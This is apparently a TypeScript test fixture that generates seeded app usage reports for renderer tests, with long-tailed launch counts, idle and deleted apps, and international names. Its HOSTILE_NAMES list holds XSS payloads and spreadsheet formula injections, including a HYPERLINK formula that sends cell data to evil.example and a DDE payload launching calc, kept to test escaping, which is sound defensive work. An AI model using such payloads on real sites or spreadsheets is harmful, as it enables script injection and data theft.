/**
 * Realistic usage reports for the renderer tests, generated from a seed: a few dozen apps with a
 * long-tailed launch distribution, user counts below launch counts, apps idle since early in the
 * window, deleted apps (with and without launches), unnamed apps, international names, and daily
 * figures that add up to the launches. Tests derive their expectations from the generated report.
 */
import type {
  AppUsage,
  DailyLaunches,
  InactiveApp,
  UsageReport,
} from "../../../../../sync-runtime/src/domain/usage-report";

const DAY_MS = 24 * 60 * 60 * 1000;

export interface FixtureOptions {
  seed?: number;
  apps?: number;
  days?: number;
  /** Apps whose last launch is within the first days of the window. */
  idleApps?: number;
  deletedApps?: number;
  /** Extra apps with these exact names (hostile, wide, …), placed among the others. */
  extraNames?: string[];
  /** Window end; defaults to a fixed midnight so runs are reproducible. */
  to?: string;
  withDaily?: boolean;
}

/** mulberry32: small, seedable, good enough for test data. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WORDS = [
  "Expense",
  "Leave",
  "Inspection",
  "Onboarding",
  "Asset",
  "Visitor",
  "Timesheet",
  "Safety",
  "Procurement",
  "Field Service",
  "Help Desk",
  "Room Booking",
  "Gestión de vacaciones",
  "Übersicht Aufträge",
  "経費精算",
  "재고 관리",
  "Café Orders",
  "Zoë's Tracker",
];
const SUFFIXES = ["App", "Tracker", "Portal", "Requests", "Hub", "Manager", "Checklist", "v2"];
const USERS = [
  "adele.vance",
  "alex.wilber",
  "diego.siciliani",
  "grady.archie",
  "isaiah.langer",
  "johanna.lorenz",
  "lee.gu",
  "lynne.robbins",
  "megan.bowen",
  "nestor.wilke",
];

function guid(random: () => number): string {
  const hex = () => Math.floor(random() * 16).toString(16);
  const part = (n: number) => Array.from({ length: n }, hex).join("");
  return `${part(8)}-${part(4)}-4${part(3)}-a${part(3)}-${part(12)}`;
}

function compareApps(a: AppUsage, b: AppUsage): number {
  return b.launches - a.launches || (a.appId < b.appId ? -1 : a.appId > b.appId ? 1 : 0);
}

export function generateReport(options: FixtureOptions = {}): UsageReport {
  const random = seededRandom(options.seed ?? 42);
  const appCount = options.apps ?? 36;
  const days = options.days ?? 45;
  const toMs = Date.parse(options.to ?? "2026-11-25T00:00:00.000Z");
  const fromMs = toMs - days * DAY_MS;
  const idle = options.idleApps ?? 4;
  const deletedCount = options.deletedApps ?? 3;
  const environments = [`Default-${guid(random)}`, guid(random), guid(random)];
  const extraNames = options.extraNames ?? [];
  const apps: AppUsage[] = [];
  const dailyByDay = new Map<number, number>();
  const total = appCount + extraNames.length;
  // Spread the extra names over the whole ranking rather than bunching them at the top.
  const extraAt = new Map(
    extraNames.map((name, j) => [Math.floor((j * total) / extraNames.length) + 1, name] as const),
  );
  for (let i = 0; i < total; i++) {
    const extraName = extraAt.get(i);
    const name =
      extraName ??
      (i % 11 === 7
        ? null
        : `${WORDS[Math.floor(random() * WORDS.length)]} ${SUFFIXES[Math.floor(random() * SUFFIXES.length)]}`);
    const isDeleted = i >= total - deletedCount;
    const deletedWithoutLaunches = isDeleted && i % 2 === 0;
    // Long tail: a few apps carry most launches, like real tenants.
    const launches = deletedWithoutLaunches
      ? 0
      : Math.max(1, Math.floor((4000 / (i + 1) ** 1.3) * (0.6 + random() * 0.8)));
    const uniqueUsers =
      launches === 0
        ? 0
        : Math.max(1, Math.min(launches, Math.floor(launches * (0.05 + random() * 0.4))));
    const isIdle = !isDeleted && i >= total - deletedCount - idle;
    let lastMs: number | null = null;
    if (launches > 0) {
      // Idle apps were last launched in the window's first days; active ones in its last days.
      lastMs = isIdle
        ? fromMs + Math.floor(random() * 3 * DAY_MS)
        : toMs - 1 - Math.floor(random() * 4 * DAY_MS);
      const lastDay = Math.floor((lastMs - fromMs) / DAY_MS);
      for (let n = 0; n < launches; n++) {
        const day = n === 0 ? lastDay : Math.floor(random() * (lastDay + 1));
        dailyByDay.set(day, (dailyByDay.get(day) ?? 0) + 1);
      }
    }
    const user = USERS[Math.floor(random() * USERS.length)] ?? "user";
    apps.push({
      appId: guid(random),
      appName: name,
      environmentId: i % 13 === 12 ? null : (environments[i % environments.length] ?? null),
      launches,
      uniqueUsers,
      lastLaunchedAt: lastMs === null ? null : new Date(lastMs).toISOString(),
      // UPNs are kept as written in the record, mixed case included.
      lastLaunchedBy:
        lastMs === null
          ? null
          : `${i % 4 === 0 ? user.toUpperCase() : user}@contoso.onmicrosoft.com`,
      deleted: isDeleted,
    });
  }
  const daily: DailyLaunches[] = [...dailyByDay.entries()]
    .filter(([, launches]) => launches > 0)
    .sort(([a], [b]) => a - b)
    .map(([day, launches]) => ({
      date: new Date(fromMs + day * DAY_MS).toISOString().slice(0, 10),
      launches,
    }));
  const report: UsageReport = {
    from: new Date(fromMs).toISOString(),
    to: new Date(toMs).toISOString(),
    apps: apps.sort(compareApps),
  };
  if (options.withDaily ?? true) report.daily = daily;
  return report;
}

/** Names an attacker could give an app: markup, script, attribute breakers, spreadsheet formulas. */
export const HOSTILE_NAMES = [
  `<script>window.__xss = "script"</script>`,
  `"><img src=x onerror="window.__xss='img'">`,
  `' onmouseover='window.__xss=1' x='`,
  `=HYPERLINK("http://evil.example/?"&A1,"Click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3`,
  `@SUM(1+1)`,
  `Line one\nline "two", with comma`,
];

/**
 * A report with all-time inactiveApps (as `report --stale-days` adds them): `count` apps idle
 * between staleDays and a year before `to`, one never launched, plus `extraNames` (hostile, …),
 * sorted as the contract says (never launched first, then longest idle, then appId).
 */
export function withInactiveApps(
  report: UsageReport,
  options: { seed?: number; count?: number; staleDays?: number; extraNames?: string[] } = {},
): UsageReport & { staleDays: number; inactiveApps: InactiveApp[] } {
  const random = seededRandom(options.seed ?? 5);
  const staleDays = options.staleDays ?? 30;
  const toMs = Date.parse(report.to);
  const names = [
    ...Array.from({ length: options.count ?? 6 }, (_, i) => `Idle ${WORDS[i % WORDS.length]} ${i}`),
    ...(options.extraNames ?? []),
  ];
  const apps: InactiveApp[] = names.map((name, i) => {
    const idleMs = (staleDays + random() * 300) * DAY_MS;
    const at = new Date(Math.floor((toMs - idleMs) / 1000) * 1000).toISOString();
    return {
      appId: `00000000-0000-4000-8000-${String(900000 + i).padStart(12, "0")}`,
      appName: i === 1 ? null : name,
      environmentId: `env-${i % 3}`,
      lastLaunchedAt: i === 2 ? null : at,
      lastLaunchedBy: i === 2 ? null : `user${i}@contoso.example`,
    };
  });
  const key = (a: InactiveApp) =>
    a.lastLaunchedAt === null ? -Infinity : Date.parse(a.lastLaunchedAt);
  apps.sort((a, b) => key(a) - key(b) || (a.appId < b.appId ? -1 : 1));
  return { ...report, staleDays, inactiveApps: apps };
}
